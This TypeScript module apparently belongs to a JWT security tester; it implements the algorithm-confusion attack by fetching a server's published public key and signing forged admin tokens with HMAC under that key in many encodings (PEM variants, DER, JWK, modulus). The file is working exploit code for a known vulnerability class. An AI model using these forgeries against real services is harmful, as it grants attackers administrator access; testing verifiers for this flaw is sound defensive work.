/** Signs tokens with HMAC under the server's public key, in every spelling a verifier might hold it (RFC 8725 2.1, 3.1). */

import { createPublicKey, type JsonWebKey, type KeyObject } from 'node:crypto';
import type { Attack, Scene } from './attack.ts';
import { type Forgery, presentForgeries } from './forgeries.ts';
import { accessTokenOf, jsonMembers } from './requests.ts';
import { claimsOfAdmin, hmacAlgorithms, type OpenedToken, openToken, signedWithHmac } from './token.ts';
import { withoutPublicKey } from './traits.ts';

export const algorithmConfusion: Attack = {
  name: 'algorithm-confusion',
  deed: 'signs a token of an admin with HMAC, the public key being the secret',
  question: 'Does the token choose the algorithm by which it is verified?',
  source: 'CVE-2015-9235, CVE-2016-10555; RFC 8725 2.1, 3.1',
  inapplicable: withoutPublicKey,
  async run(scene, session) {
    const genuine = openToken(accessTokenOf(scene.contestant, session) ?? '');
    const spellings = genuine === null ? [] : await spellingsOfKey(scene, genuine);
    if (genuine === null || spellings.length === 0) {
      return { outcome: { kind: 'unproven' }, evidence: 'the JWK Set does not tell the public key of the token' };
    }
    return presentForgeries(scene, forgeriesOf(genuine, spellings));
  },
};

interface Spelling {
  readonly name: string;
  readonly bytes: Buffer;
}

function forgeriesOf(genuine: OpenedToken, spellings: readonly Spelling[]): Forgery[] {
  const claims = claimsOfAdmin(genuine);
  return hmacAlgorithms.flatMap((algorithm) =>
    spellings.map(({ name, bytes }) => ({
      token: signedWithHmac(algorithm, genuine.header, claims, bytes),
      what: `signed ${algorithm} under the public key (${name})`,
    })),
  );
}

/** Empty when the server does not publish the key that the genuine token was signed for. */
async function spellingsOfKey({ contestant, ask }: Scene, { header }: OpenedToken): Promise<Spelling[]> {
  const { body } = await ask({ method: 'GET', path: contestant.keySetPath ?? '', headers: {} });
  const { keys } = jsonMembers(body);
  const published: readonly JsonWebKey[] = Array.isArray(keys) ? keys : [];
  const jwk = published.find(({ kid }) => kid === header.kid);
  const key = jwk === undefined ? null : publicKeyOf(jwk);
  if (jwk === undefined || key === null) return [];
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const number = typeof jwk.n === 'string' ? jwk.n : jwk.x;
  const texts: Readonly<Record<string, string>> = {
    'PEM as it is': pem,
    'PEM without its last line end': pem.trimEnd(),
    'PEM with CRLF': pem.replaceAll('\n', '\r\n'),
    'PEM after a line end': `\n${pem}`,
    JWK: JSON.stringify(jwk),
    'JWK Set': body,
    'key id': String(header.kid),
  };
  return [
    ...Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })),
    { name: 'DER', bytes: key.export({ type: 'spki', format: 'der' }) },
    ...(typeof number === 'string' ? [{ name: 'its number', bytes: Buffer.from(number, 'base64url') }] : []),
  ];
}

function publicKeyOf(jwk: JsonWebKey): KeyObject | null {
  try {
    return createPublicKey({ key: jwk, format: 'jwk' });
  } catch {
    return null;
  }
}
